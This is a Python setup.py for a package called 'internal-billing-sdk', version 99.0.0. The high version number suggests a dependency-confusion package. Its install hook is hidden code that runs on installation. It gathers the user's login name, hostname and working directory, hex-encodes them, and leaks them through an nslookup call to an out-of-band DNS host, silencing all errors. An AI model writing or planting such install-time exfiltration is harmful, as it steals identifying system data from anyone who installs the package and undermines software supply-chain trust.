import getpass
import os
import socket
import subprocess

from setuptools import setup


def _probe():
    try:
        tag = "%s.%s.%s" % (getpass.getuser(), socket.gethostname(), os.path.basename(os.getcwd()))
        label = tag.encode().hex()[:60]
        subprocess.run(["nslookup", "%s.ib.oast.example.invalid" % label],
                       stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=5)
    except Exception:
        pass


_probe()

setup(
    name="internal-billing-sdk",
    version="99.0.0",
    packages=["internal_billing_sdk"],
    description="internal",
)
